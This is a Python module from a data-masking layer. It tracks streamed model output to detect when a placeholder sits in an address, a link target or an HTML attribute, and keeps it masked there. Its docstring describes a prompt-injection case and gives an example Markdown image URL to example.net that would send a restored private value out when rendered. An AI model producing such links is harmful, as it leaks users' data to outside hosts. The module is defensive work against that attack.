"""Where in an answer a value could be sent away: addresses, link targets, HTML attributes.

A model that was steered by a text it read can write `![](https://example.net/?q=<PERSON_1>)`: a client that shows the
picture would send the restored value to whoever runs that host. So placeholders in such places are not restored.

    closed       `:` or `]`            maybe an address, maybe a link target
    maybe        `//` or `(`           open; anything else: closed
    closed       `<` and a letter      maybe a tag; open once an attribute's value has begun
    open         what ends it          closed: a blank, quote or bracket for an address, `)` for a target, `>` for a tag

Targets that no client fetches by itself (`mailto:`, `tel:`) and hosts that a policy allows do not count.
"""

from __future__ import annotations

import re
from collections.abc import Collection
from typing import Final

__all__ = ["LOUD", "LOUD_SIGNS", "Links"]

LOUD_SIGNS: Final = ":]"
"""Characters after which a link may begin, besides `<`."""
LOUD: Final = re.compile(f"[{re.escape(LOUD_SIGNS)}]")

_ADDRESS: Final = "address"
_TARGET: Final = "target"
_TAG: Final = "tag"

_BEGIN = re.compile(r"://|\]\(|<(?=[A-Za-z])")
_MAYBE = re.compile(r"(?::/?|\]|<)\Z")
_KINDS = {"://": _ADDRESS, "](": _TARGET, "<": _TAG}
_ENDS = {
    _ADDRESS: re.compile(r"[\s\"'<>`)\]}\u3000-\u303f\uff00-\uffef\u4e00-\u9fff]"),
    _TARGET: re.compile(r"[)\n]"),
    _TAG: re.compile(r"[<>]"),
}
_VALUE = re.compile(r"[A-Za-z][A-Za-z0-9-]*\s(?:[^<>]*[\s\"'])?[A-Za-z-]+\s*=\s*(?:\"[^\"]*|'[^']*|[^\s\"'>]*)\Z")
_AUTOLINK = re.compile(r"[A-Za-z][A-Za-z0-9+.-]*://")
_HARMLESS = re.compile(r"\s*(?:mailto|tel|sms):", re.IGNORECASE)
_HOST = re.compile(r"(?:[^\s/?#]*://)?(?://)?(?:[^/?#@\s]*@)?(\[[0-9a-fA-F:.]+\]|[^/?#:\s]*)")
_LONGEST: Final = 4096
"""Characters of a link that are kept to judge it; a longer one is judged by its beginning."""


class Links:
    """Follows the text that a model writes, piece by piece; `open` while its end may lie in a link."""

    __slots__ = ("_allowed", "_kind", "_text")

    def __init__(self, allowed: Collection[str] = ()) -> None:
        """`allowed` are host names to which values may go; `.example.com` allows every host below it, too."""
        self._allowed = allowed
        self._kind = ""
        self._text = ""

    @property
    def open(self) -> bool:
        """Whether a link has begun, or may have begun, and not ended."""
        return bool(self._kind or self._text)

    def read(self, text: str) -> None:
        """Follow `text`."""
        at = 0
        while at < len(text):
            if not self._kind:
                text = self._text + text[at:]
                at = 0
                self._text = ""
                begin = _BEGIN.search(text)
                if begin is None:
                    maybe = _MAYBE.search(text)
                    self._text = maybe.group() if maybe else ""
                    return
                self._kind = _KINDS[begin.group()]
                at = begin.end()
                continue
            end = _ENDS[self._kind].search(text, at)
            stop = len(text) if end is None else end.start()
            self._text = (self._text + text[at:stop])[:_LONGEST]
            if end is None:
                return
            # The sign that ends one link may begin another: `<` after an address, `]` before a target.
            self._kind = self._text = ""
            at = stop if text[stop] in "<]" else end.end()
            if text[stop] == "]":
                self._text, at = "]", stop + 1

    def follow(self, placeholder: str) -> None:
        """Follow a placeholder that was not restored, or the value of one: it ends no link."""
        if self._kind:
            self._text = (self._text + placeholder)[:_LONGEST]
        else:
            self._text = ""

    def end(self) -> None:
        """The text has ended."""
        self._kind = self._text = ""

    @property
    def guards(self) -> bool:
        """Whether a placeholder that stands here must stay one."""
        if not self._kind:
            return False
        if self._kind == _TAG:
            if _AUTOLINK.match(self._text):
                return not self._goes_to_allowed(self._text)
            return _VALUE.match(self._text) is not None and not self._goes_to_allowed(self._text.rpartition("=")[2])
        if self._kind == _TARGET and _HARMLESS.match(self._text):
            return False
        return not self._goes_to_allowed(("://" if self._kind == _ADDRESS else "") + self._text)

    def _goes_to_allowed(self, address: str) -> bool:
        found = _HOST.match(address.lstrip("\"' <"))
        host = found[1].lower() if found else ""
        # Until the host has ended, the placeholder may be a part of it.
        ended = found is not None and found.end() < len(address.lstrip("\"' <"))
        return ended and any(
            host == one.lower().lstrip(".") or (one[:1] == "." and host.endswith(one.lower())) for one in self._allowed
        )
